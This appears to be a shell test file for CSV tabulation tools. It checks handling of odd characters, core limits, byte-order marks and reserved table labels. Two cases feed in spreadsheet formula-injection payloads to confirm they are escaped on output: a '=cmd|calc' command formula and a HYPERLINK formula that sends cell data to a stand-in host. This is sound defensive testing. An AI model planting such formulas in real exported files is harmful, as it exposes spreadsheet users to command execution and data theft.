# cj-outcomes: the rest.

=== codes-of-characters
$ printf 'g,v\na\xef\xbf\xbf,1\nb\vc,1\nd,2\n' >a.csv
> cj-tabulate a.csv --rows g -f text | grep -oE 'Codes.*cells|a.uFFFF|b.x0Bc'
> cj-tabulate a.csv --rows g -f csv | tail -n +2 | od -An -c
--- stdout
a\uFFFF
b\x0Bc
Codes such as \x01 and \uFFFF stand for characters that cannot be shown, in 2 cells
   a 357 277 277   ,   1  \n   b  \v   c   ,   1  \n   d   ,   1
  \n

=== core-file
# no core file holds records, whatever the limit was
$ ulimit -c unlimited 2>/dev/null
> mkfifo export.csv
> exec 3<>export.csv
> cj-tabulate - --rows a <export.csv 3>&- &
> program=$!
> for try in {1..200}; do
>   limits=$(grep 'core file' /proc/$program/limits | tr -s ' ')
>   [ "$limits" = "Max core file size 0 0 bytes " ] && break
>   sleep 0.05
> done
> echo "$limits"
> printf 'a\n1\n' >export.csv
> exec 3>&-
> wait $program
--- stdout
Max core file size 0 0 bytes 
a,count
1,1

=== csv-formula-findings
# So do the lists of findings and repairs; the valid and invalid rows are as they were.
$ printf 'person_id,review_date,outcome,score\nP1,=cmd|calc,"=1+1",@x\nP2,2013-01-01,"=1+1",1\n' >r.csv
> cj-check reviews:r.csv -q --findings f.csv --valid v.csv --invalid i.csv -f text >/dev/null 2>&1; cut -d, -f9 f.csv; cat v.csv i.csv
> cj-check reviews:r.csv -q -f csv 2>/dev/null | cut -d, -f9
> cj-check reviews:r.csv -q --raw --findings f.csv -f text >/dev/null 2>&1; cut -d, -f9 f.csv
--- stdout
value
'=cmd|calc
'@x
2013-01-01
person_id,review_date,outcome,score
P2,2013-01-01,"=1+1",1
person_id,review_date,outcome,score
P1,=cmd|calc,"=1+1",@x
value
'=cmd|calc
'@x
value
=cmd|calc
@x
2013-01-01

=== csv-formula-table
# Csv for people holds no live formula, and what was written is read back; numbers stay numbers.
$ printf 'outcome,n\n"=HYPERLINK(""http://x/?""&A2,""open"")",-5\n+1+1,3\n-5,1\n@x,2\n"'"'"'=y",1\n"'"''"'@z",1\n' >r.csv
> cj-tabulate r.csv --rows outcome --values 'sum(n)' -o t.csv; cat t.csv
> echo "-- again"; cj-tabulate t.csv --rows outcome --values 'sum_n=sum(sum_n)' -o u.csv; cmp t.csv u.csv
> echo "-- raw"; cj-tabulate t.csv --rows outcome --values 'n=sum(sum_n)' --raw
> echo "-- a heading"; printf '=1+1\na\n' | cj-tabulate --rows '"=1+1"' -o h.csv; cat h.csv; cj-tabulate h.csv --rows '"=1+1"' --values 'sum(count)'
> echo "-- other formats"; cj-tabulate t.csv --rows outcome -f json --where 'outcome=@x' | grep -o '"outcome": *"[^"]*"'
--- stdout
outcome,sum_n
''@z,1
'+1+1,3
-5,1
"'=HYPERLINK(""http://x/?""&A2,""open"")",-5
'=y,1
'@x,2
-- again
-- raw
outcome,n
'@z,1
+1+1,3
-5,1
"=HYPERLINK(""http://x/?""&A2,""open"")",-5
=y,1
@x,2
-- a heading
'=1+1,count
a,1
'=1+1,sum_count
a,1
-- other formats
"outcome": "@x"

=== generate-full-disk
$ cj-outcomes --generate=man >/dev/full
? 3
--- stderr
cj-outcomes: standard output: cannot write: No space left on device

=== json-with-mark
# Some editors begin a file in UTF-8 with a mark.
$ printf '\xef\xbb\xbf{"fields":[{"name":"g","constraints":{"enum":["a","b"]}}]}' >s.json
> printf '\xef\xbb\xbf{"dialect":{"delimiter":";"}}' >p.json
> printf 'g;h\na;1\nb;2\n' | cj-tabulate --rows g --schema s.json --profile p.json
--- stdout
g,count
a,1
b,1

=== words-of-the-table-as-values
# A value that is written like the total, the rest or the blanks beside it is refused, in all formats and measures.
$ printf 'g,h,v\nAll,1,1\nb,2,1\n(missing),2,2\n,(other),2\n' >g.csv
> r() { cj-tabulate g.csv "$@"; echo $?; }
> for f in csv json text; do r --rows g --totals rows -f $f; done
> r --rows v --cols g
> r --rows h --top 1
> r --rows g --where g!= --totals rows
> r --rows k --derive 'k=recode(g,All="the lot")' --where 'g!=(missing)' --totals rows
> printf 'person_id,review_date,outcome,score,team\nA,2022-01-05,Work,1,all\nA,2022-02-05,Work,2,all\n' >r.csv
> cj-outcomes r.csv --by team --total; echo $?
> cj-outcomes r.csv --by team | cut -d, -f1-6
--- stdout
2
2
2
2
h,count
2,2
(other),2
0
2
k,count
b,1
the lot,1
(missing),1
All,3
0
2
period,team,outcome,term,clients,reviewed
all,all,Work,,,1
--- stderr
cj-tabulate: column g has the value "(missing)", under which the table shows the rows without one; give the value another name, as --derive 'NAME=recode(g,"(missing)"=...)' does
cj-tabulate: column g has the value "(missing)", under which the table shows the rows without one; give the value another name, as --derive 'NAME=recode(g,"(missing)"=...)' does
cj-tabulate: column g has the value "(missing)", under which the table shows the rows without one; give the value another name, as --derive 'NAME=recode(g,"(missing)"=...)' does
cj-tabulate: column g has the value "(missing)", under which the table shows the rows without one; give the value another name, as --derive 'NAME=recode(g,"(missing)"=...)' does
cj-tabulate: column g has the value "All", under which the table shows the total; give the value another name, as --derive 'NAME=recode(g,"All"=...)' does
cj-outcomes: column team has the value "All", under which the table shows the total; give the value another name, as --derive 'NAME=recode(team,"All"=...)' does
